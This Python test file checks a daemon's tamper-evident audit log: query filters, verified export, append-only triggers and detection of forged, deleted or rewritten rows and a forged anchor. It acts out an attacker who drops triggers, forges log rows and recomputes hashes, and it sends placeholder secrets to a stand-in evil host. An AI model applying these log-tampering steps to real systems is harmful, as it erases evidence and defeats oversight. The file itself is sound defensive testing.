#!/usr/bin/python3
"""The audit log through the CLI: query filters, verify, export (checked
by an independent verifier written here from docs/internals/audit.md), the
append-only triggers, and tamper detection after an attacker with file
access drops them."""
import hashlib
import json
import os
import struct
import subprocess
import time

from daemon_harness import Daemon, run_tests


def start(d):
    d.start("--key-file", os.path.join(d.tmp, "master.key"))
    deadline = time.time() + 15
    while time.time() < deadline:
        st, _, body = d.unix("GET", "/v1/keystore")
        if st == 200 and json.loads(body)["state"] == "open":
            return
        time.sleep(0.05)
    raise AssertionError("store not open")


def row_hash(prev_hex, row):
    """SHA-256(prev || "nilbox.audit.v1\\0" || be64 seq || be64 time_ms ||
    lp(kind) || lp(vm) || lp(host) || be64 port || lp(detail)); lp = be64
    length + bytes; vm/host "" when null, port 0 when null."""
    def lp(s):
        b = s.encode()
        return struct.pack(">Q", len(b)) + b
    detail = json.dumps(row["detail"], separators=(",", ":"), sort_keys=True,
                        ensure_ascii=False)
    h = hashlib.sha256()
    h.update(bytes.fromhex(prev_hex))
    h.update(b"nilbox.audit.v1\0")
    h.update(struct.pack(">QQ", row["seq"], row["time_ms"]))
    h.update(lp(row["kind"]) + lp(row["vm"] or "") + lp(row["host"] or ""))
    h.update(struct.pack(">Q", row["port"] or 0))
    h.update(lp(detail))
    return h.hexdigest()


def make_rows(d):
    d.cli("secret", "set", "A_KEY", input="aaaaaaaaaaaa")
    d.cli("secret", "bind", "A_KEY", "--host", "a.example", "--vm", "vm1")
    d.cli("rule", "add", "allow", "a.example", "--port", "443", "--vm", "vm1")
    d.cli("rule", "add", "deny", "*.evil.example")
    d.cli("secret", "rm", "A_KEY")


def sqlite(db, sql):
    return subprocess.run(["sqlite3", db, sql], capture_output=True, text=True, timeout=20)


def test_query_filters():
    with Daemon() as d:
        start(d)
        make_rows(d)
        r = d.cli("--json", "audit")
        assert r.returncode == 0, r
        rows = json.loads(r.stdout)["rows"]
        kinds = [x["kind"] for x in rows]
        assert kinds[0] == "daemon.lifecycle" and "secrets.unlock" in kinds, kinds
        assert [x["seq"] for x in rows] == list(range(1, len(rows) + 1))
        r = d.cli("--json", "audit", "--kind", "rule.add")
        rr = json.loads(r.stdout)["rows"]
        assert [x["host"] for x in rr] == ["a.example", "*.evil.example"], rr
        assert rr[0]["port"] == 443 and rr[0]["vm"] == "vm1"
        r = d.cli("--json", "audit", "--vm", "vm1")
        assert {x["kind"] for x in json.loads(r.stdout)["rows"]} == {"secret.bind", "rule.add"}
        r = d.cli("--json", "audit", "--kind", "secret.*", "--limit", "2")
        rr = json.loads(r.stdout)["rows"]
        assert [x["kind"] for x in rr] == ["secret.bind", "secret.rm"], rr
        r = d.cli("--json", "audit", "--since", "1h")
        assert len(json.loads(r.stdout)["rows"]) == len(rows)
        r = d.cli("--json", "audit", "--since", "2999-01-01")
        assert json.loads(r.stdout)["rows"] == []
        r = d.cli("audit", "--kind", "rule.add")
        assert r.returncode == 0 and "a.example:443" in r.stdout, r
        # Bad filters: clear errors.
        r = d.cli("audit", "--since", "yesterday")
        assert r.returncode == 1 and "'since' is a time" in r.stderr, r
        r = d.cli("audit", "--kind", "DROP TABLE")
        assert r.returncode == 1 and "'kind'" in r.stderr, r
        r = d.cli("audit", "--limit", "0")
        assert r.returncode == 2, r
        r = d.cli("audit", "bogus")
        assert r.returncode == 2, r


def test_export_and_independent_verify():
    with Daemon() as d:
        start(d)
        make_rows(d)
        out = os.path.join(d.tmp, "audit.jsonl")
        r = d.cli("audit", "export", out)
        assert r.returncode == 0 and "exported" in r.stdout, r
        assert os.stat(out).st_mode & 0o777 == 0o600
        with open(out) as f:
            rows = [json.loads(line) for line in f]
        assert len(rows) >= 7
        prev = "0" * 64
        keyed = 0
        for row in rows:
            assert row["prev_hash"] == prev, row
            # Keyed rows need the key (only the daemon has it): linkage only.
            if row["chain"] == "sha256":
                assert row_hash(prev, row) == row["hash"], row
            else:
                assert row["chain"] == "keyed", row
                assert row_hash(prev, row) != row["hash"], row
                keyed += 1
            prev = row["hash"]
        # The first row (daemon.started) comes before the unlock: unkeyed.
        assert rows[0]["chain"] == "sha256" and keyed >= len(rows) - 2, rows
        r = d.cli("--json", "audit", "verify")
        v = json.loads(r.stdout)
        assert r.returncode == 0 and v["ok"] and v["head_hash"] == prev, r
        r = d.cli("audit", "export", "-")
        assert r.returncode == 0 and len(r.stdout.splitlines()) >= len(rows), r


def test_triggers_then_tamper_detected():
    with Daemon() as d:
        start(d)
        make_rows(d)
        r = d.cli("audit", "verify")
        assert r.returncode == 0 and "intact" in r.stdout, r
        d.terminate()
        db = os.path.join(d.home, "state.db")
        # The schema refuses edits...
        r = sqlite(db, "UPDATE audit SET detail = '{}' WHERE seq = 3")
        assert r.returncode != 0 and "append-only" in r.stderr, r
        r = sqlite(db, "DELETE FROM audit WHERE seq = 3")
        assert r.returncode != 0 and "append-only" in r.stderr, r
        r = sqlite(db, "INSERT INTO audit (seq, time_ms, kind, detail, prev_hash, hash)"
                       " VALUES (1000, 0, 'x', '{}', 'x', 'x')")
        assert r.returncode != 0 and "chain" in r.stderr, r
        # ...until someone with the file drops the trigger.
        r = sqlite(db, "DROP TRIGGER audit_no_update; UPDATE audit SET detail ="
                       " '{\"forged\":true}' WHERE seq = 4;")
        assert r.returncode == 0, r
        start(d)
        r = d.cli("audit", "verify")
        assert r.returncode == 1 and "BROKEN at seq 4" in r.stdout, r
        r = d.cli("--json", "audit", "verify")
        v = json.loads(r.stdout)
        assert v["ok"] is False and v["first_bad_seq"] == 4 and v["head_seq"] == 3, v
        # New rows still append (the chain continues from the stored head).
        r = d.cli("rule", "add", "allow", "b.example")
        assert r.returncode == 0, r


def test_deleted_row_detected():
    with Daemon() as d:
        start(d)
        make_rows(d)
        d.terminate()
        db = os.path.join(d.home, "state.db")
        r = sqlite(db, "DROP TRIGGER audit_no_delete; DELETE FROM audit WHERE seq = 2;")
        assert r.returncode == 0, r
        start(d)
        r = d.cli("--json", "audit", "verify")
        v = json.loads(r.stdout)
        assert r.returncode == 1 and v["first_bad_seq"] == 2 and "missing" in v["reason"], v


def verify_json(d):
    r = d.cli("--json", "audit", "verify")
    return r, json.loads(r.stdout)


def test_newest_rows_deleted_detected():
    """Cutting the tail leaves a consistent chain: only the anchor shows it."""
    with Daemon() as d:
        start(d)
        make_rows(d)
        r, v = verify_json(d)
        assert r.returncode == 0 and v["ok"] and v["anchor"] == "ok" and v["keyed"], v
        n = v["head_seq"]
        d.terminate()
        db = os.path.join(d.home, "state.db")
        r = sqlite(db, "DROP TRIGGER audit_no_delete; DELETE FROM audit WHERE seq > %d;" % (n - 2))
        assert r.returncode == 0, r
        start(d)
        r, v = verify_json(d)
        assert r.returncode == 1 and not v["ok"], v
        # Found when the key came back (recorded as a row), and by verify.
        assert "deleted" in v["reason"], v
        r = d.cli("audit", "verify")
        assert r.returncode == 1 and "BROKEN" in r.stdout and "deleted" in r.stdout, r
        rows = json.loads(d.cli("--json", "audit", "--kind", "audit.tamper").stdout)["rows"]
        assert len(rows) == 1 and "deleted" in rows[0]["detail"]["reason"], rows


def rewrite_unkeyed(db, from_seq):
    """Edits row `from_seq` and recomputes every later hash with the
    documented unkeyed formula (what an attacker without the key can do)."""
    out = subprocess.run(["sqlite3", "-json", db, "SELECT * FROM audit ORDER BY seq"],
                         capture_output=True, text=True, check=True).stdout
    rows = json.loads(out)
    sql = ["DROP TRIGGER audit_no_update;"]
    prev = None
    for row in rows:
        if row["seq"] < from_seq:
            prev = row["hash"]
            continue
        det = json.loads(row["detail"])
        if row["seq"] == from_seq:
            det["forged"] = True
        r = dict(row, detail=det)
        h = row_hash(prev, r)
        sql.append("UPDATE audit SET detail = '%s', prev_hash = '%s', hash = '%s', mac = 0"
                   " WHERE seq = %d;" % (json.dumps(det, separators=(",", ":"), sort_keys=True),
                                         prev, h, row["seq"]))
        prev = h
    r = sqlite(db, "".join(sql))
    assert r.returncode == 0, r


def test_rewrite_with_unkeyed_hashes_detected():
    with Daemon() as d:
        start(d)
        make_rows(d)
        d.terminate()
        db = os.path.join(d.home, "state.db")
        rewrite_unkeyed(db, 4)
        # Read before a daemon appends: start it locked-out of the key?
        # No: the daemon checks the anchor at unlock and records it.
        start(d)
        r, v = verify_json(d)
        assert r.returncode == 1 and not v["ok"], v
        assert "rewritten" in v["reason"], v


def test_anchor_file_tampering_detected():
    with Daemon() as d:
        start(d)
        make_rows(d)
        # A verify runs after every queued row is written (and anchored):
        # nothing rewrites the anchor behind the test's back from here on.
        r, v = verify_json(d)
        assert r.returncode == 0 and v["ok"], v
        head = os.path.join(d.home, "audit.head")
        with open(head) as f:
            good = f.read()
        assert good.startswith("nilbox-audit-head v1 "), good
        assert os.stat(head).st_mode & 0o777 == 0o600
        # An anchor that claims fewer rows (written by someone without the key).
        parts = good.split()
        forged = "%s %s %s %s %s\n" % (parts[0], parts[1], "3", parts[3], parts[4])
        with open(head, "w") as f:
            f.write(forged)
        r, v = verify_json(d)
        assert r.returncode == 1 and "anchor" in v["reason"], v
        os.unlink(head)
        r, v = verify_json(d)
        assert r.returncode == 1 and "missing" in v["reason"], v
        r = d.cli("audit", "verify")
        assert r.returncode == 1 and "missing" in r.stdout, r
        with open(head, "w") as f:
            f.write(good)
        os.chmod(head, 0o600)
        r, v = verify_json(d)
        assert r.returncode == 0 and v["ok"], v


def test_leak_burst_is_bounded():
    """10000 leak events (a placeholder sent to a host it is not bound to,
    32 requests per connection, many connections): bounded rows whose
    counts add up to every event."""
    import http.client
    import threading
    sys_path = os.path.dirname(os.path.abspath(__file__))
    import sys
    sys.path.insert(0, sys_path)
    from proxy_env import ProxyEnv
    per_conn, conns = 32, 313
    total = per_conn * conns - 16  # 10000
    with ProxyEnv() as e:
        e.d.terminate()
        e.d.env.update({"NILBOX_AUDIT_AGG_WINDOW_MS": "600000"})
        e.d.start("--key-file", os.path.join(e.tmp, "master.key"))
        e.wait_open()
        e.secret("OPENAI_API_KEY", "sk-burst-value-0123456789")
        e.bind("OPENAI_API_KEY", "api.test")
        e.rule("allow", "evil.test:80")
        px = e.proxy()
        sent = [0]
        lock = threading.Lock()

        def worker(nconn):
            for _ in range(nconn):
                c = http.client.HTTPConnection("127.0.0.1", px.port, timeout=30)
                for _ in range(per_conn):
                    with lock:
                        if sent[0] >= total:
                            break
                        sent[0] += 1
                    c.request("GET", "http://evil.test/burst",
                              headers={"Authorization": "Bearer OPENAI_API_KEY",
                                       "Proxy-Authorization": px.basic})
                    c.getresponse().read()
                c.close()
        ts = [threading.Thread(target=worker, args=(conns // 4 + 1,)) for _ in range(4)]
        t0 = time.time()
        for t in ts:
            t.start()
        for t in ts:
            t.join()
        assert sent[0] == total, sent
        took = time.time() - t0
        e.stop_clean()  # the close flushes merges and cap summaries
        db = os.path.join(e.d.home, "state.db")
        out = subprocess.run(["sqlite3", "-json", db,
                              "SELECT kind, vm, detail FROM audit WHERE kind IN"
                              " ('leak', 'audit.suppressed')"],
                             capture_output=True, text=True, check=True).stdout
        rows = json.loads(out or "[]")
        events = 0
        for r in rows:
            det = json.loads(r["detail"])
            if r["kind"] == "leak":
                events += det.get("_repeated", 1)
            else:
                events += det["kinds"].get("leak", 0)
        assert events == total, (events, len(rows))
        assert len(rows) <= 700, len(rows)  # at most the per-minute cap plus summaries
        print("   %d leak events in %.1fs -> %d rows" % (total, took, len(rows)))
        # And the keyed chain still verifies across all that.
        e.d.start("--key-file", os.path.join(e.tmp, "master.key"))
        e.wait_open()
        r, v = verify_json(e.d)
        assert r.returncode == 0 and v["ok"], v


if __name__ == "__main__":
    run_tests([test_query_filters, test_export_and_independent_verify,
               test_triggers_then_tamper_detected, test_deleted_row_detected,
               test_newest_rows_deleted_detected, test_rewrite_with_unkeyed_hashes_detected,
               test_anchor_file_tampering_detected, test_leak_burst_is_bounded])
